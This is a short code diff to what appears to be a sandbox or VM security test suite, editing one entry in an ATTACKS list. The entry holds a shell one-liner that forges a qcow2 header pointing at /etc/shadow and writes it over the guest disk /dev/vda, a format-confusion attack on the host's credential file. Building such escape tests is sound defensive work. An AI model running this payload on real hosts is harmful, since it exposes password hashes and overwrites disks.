@@ -100,7 +100,7 @@ export const ATTACKS: readonly Attack[] = [
   {
     ...inside(
       "a disk that says it is qcow2, with /etc/shadow behind it",
-      "printf 'QFI\\373\\0\\0\\0\\003\\0\\0\\0\\0\\0\\0\\0\\110\\0\\0\\0\\013' > /h; printf '%072d/etc/shadow' 0 | dd of=/h bs=1 seek=20 conv=notrunc 2>/dev/null; dd if=/h of=/dev/vda conv=notrunc 2>/dev/null; sync; sleep 100",
+      "printf 'QFI\\373\\0\\0\\0\\003\\0\\0\\0\\0\\0\\0\\0\\110\\0\\0\\0\\013' > /h; printf '%072d/etc/shadow' 0 | dd of=/h bs=1 seek=20 conv=notrunc 2>/dev/null; dd if=/h of=/dev/vda conv=notrunc 2>/dev/null; sync; touch /written; sleep 100",
     ),
     pokes: "fork",
   },
